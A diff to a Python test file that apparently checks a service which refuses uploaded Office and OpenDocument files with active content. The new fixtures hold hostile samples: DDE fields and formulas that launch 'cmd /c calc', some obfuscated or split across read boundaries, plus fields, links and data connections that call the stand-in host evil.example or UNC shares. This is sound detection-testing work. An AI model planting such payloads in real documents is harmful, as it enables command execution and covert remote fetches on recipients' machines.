@@ -6,6 +6,7 @@ import zipfile
 import pytest
 
 from services.transcripts.attachments import documents
+from services.transcripts.attachments.archives import CHUNK
 from services.transcripts.attachments.judging import judge
 from services.transcripts.attachments.kinds import Finding, Reason, Refused
 from tests.transcripts import made
@@ -68,6 +69,17 @@ def test_a_strict_document_and_one_with_backslashes():
     assert kind_of(made.archive({**old, "word\\document.xml": "<w/>"})) == ".docx"
 
 
+def chunk(ending: str, content: bytes | str) -> bytes:
+    """A document that takes another file into its text."""
+    return office(related=relations(("aFChunk", f"chunk.{ending}")), more={f"word/chunk.{ending}": content})
+
+
+def connected(connection: str) -> bytes:
+    """A workbook with a connection to data elsewhere."""
+    more = {"xl/connections.xml": f"<connections><connection>{connection}</connection></connections>"}
+    return office("xl/workbook.xml", made.SHEET, more=more)
+
+
 @pytest.mark.parametrize(
     "content",
     [
@@ -85,6 +97,15 @@ def test_a_strict_document_and_one_with_backslashes():
         ),
         office(body=field(" PAGE ") + field(' HYPERLINK "https://dde.example.be/DDE" ') + "<w:t>DDEAUTO cmd</w:t>"),
         office(body=field(" DDEPARTMENT ")),
+        office(related=relations(("hyperlink", "javascript:void(0);", "External"))),
+        office(body=field(' INCLUDEPICTURE "https://www.example.be/logo.png" \\* MERGEFORMATINET ')),
+        office(body=field(' INCLUDEPICTURE "C:\\\\Users\\\\An\\\\foto.jpg" ')),
+        office(body=field(' LINK Excel.Sheet.12 "S:\\\\cijfers.xlsx" "Blad1!R1K1" \\a \\f 5 ')),
+        chunk("txt", "hallo"),
+        chunk("docx", office()),
+        connected(
+            '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q" command="x"/>'
+        ),
         office(related=relations(("package", "embeddings/sheet.xlsx")), more={"word/embeddings/sheet.xlsx": office()}),
         office(
             more={
@@ -94,6 +115,8 @@ def test_a_strict_document_and_one_with_backslashes():
         office(more={"word/media/vba_diagram.png": made.PNG, "word/media/action.wmf": b"\xd7\xcd\xc6\x9a" + bytes(40)}),
         office(more={"customXml/item1.xml": "<?xml version='1.0' encoding='utf-16'?><a/>".encode("utf-16")}),
         opendocument(body='<text:a xlink:href="https://www.example.be">x</text:a>'),
+        opendocument(body='<text:a xlink:href="javascript:;">x</text:a>'),
+        opendocument(body='<text:section-source xlink:href="file:///C:/deel.odt"/>'),
         opendocument(
             more={"Object 1/content.xml": "<a/>", "Object 1/mimetype": "x", "ObjectReplacements/Object 1": b"VCLMTF"}
         ),
@@ -166,6 +189,16 @@ def test_macros_are_refused_whatever_they_are_called(content: bytes):
         (linked("hyperlink", "java&#115;cript:alert(1)", "External"), Finding.EXTERNAL),
         (linked("frame", "https://evil.example/x.htm", "External"), Finding.EXTERNAL),
         (linked("image", "file:////evil/share/x.png", "External"), Finding.EXTERNAL),
+        (office(body=field(' INCLUDEPICTURE "\\\\\\\\evil\\\\s\\\\x.png" ')), Finding.EXTERNAL),
+        (office(body=field(' INCLUDETEXT "https://evil.example/x.docx" ')), Finding.EXTERNAL),
+        (office(body=field(' LINK Word.Document.8 "https://evil.example/x.doc" "" \\a ')), Finding.EXTERNAL),
+        (connected('<webPr sourceData="1" url="https://evil.example/x.html"/>'), Finding.EXTERNAL),
+        (connected('<dbPr connection="OLEDB;Data Source=https://evil.example/"/>'), Finding.EXTERNAL),
+        (opendocument(body='<text:section-source xlink:href="https://evil.example/x.odt"/>'), Finding.EXTERNAL),
+        (opendocument("spreadsheet", body='<table:cell-range-source xlink:href="//evil/x.html"/>'), Finding.EXTERNAL),
+        (chunk("htm", "<html><body><img src='file://evil/x'></body></html>"), Finding.OBJECTS),
+        (chunk("mht", "MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x"), Finding.OBJECTS),
+        (chunk("rtf", "{\\rt x}"), Finding.OBJECTS),
         (opendocument(body='<draw:floating-frame xlink:href="https://evil.example"/>'), Finding.EXTERNAL),
         (
             opendocument(more={"meta.xml": '<m xmlns:x="y"><template x:href="https://evil/x.ott"/></m>'}),
@@ -197,6 +230,8 @@ def test_macros_are_refused_whatever_they_are_called(content: bytes):
         (office(body=field(" DD", 'E "cmd" "/c calc"')), Finding.DDE),
         (office(body=field("&#68;DE cmd")), Finding.DDE),
         (office(body='<w:fldSimple w:instr="DDE cmd"/>'), Finding.DDE),
+        (office(more={"word/x.xml": '<w:fldSimple xmlns:w="w" w:instr="DDE cmd"/>'.encode("utf-16-le")}), Finding.DDE),
+        (office(more={"word/x.xml": '<w:fldSimple xmlns:w="w" w:instr="DDE cmd"/>'.encode("utf-16-be")}), Finding.DDE),
         (office(body=FIELD.format("begin") + field(" QUOTE 68 68 69 65 85 84 79 ") + CODE.format(" cmd")), Finding.DDE),
         (
             office(
@@ -228,6 +263,15 @@ def test_a_formula_that_asks_another_program():
             assert kind_of(content) == ".xlsx"
         else:
             assert refused(content) == ("active_content", "dde")
+
+
+def test_a_formula_that_is_read_in_two_pieces():
+    formula = "cmd|'/c calc'!A0"
+    for cut in range(1, len(formula)):
+        before = "<s><!--"
+        space = " " * (CHUNK - len(before) - len("--><f>") - cut)
+        content = office("xl/workbook.xml", made.SHEET, more={"xl/s.xml": f"{before}{space}--><f>{formula}</f></s>"})
+        assert refused(content) == ("active_content", "dde")
 
 
 @pytest.mark.parametrize(
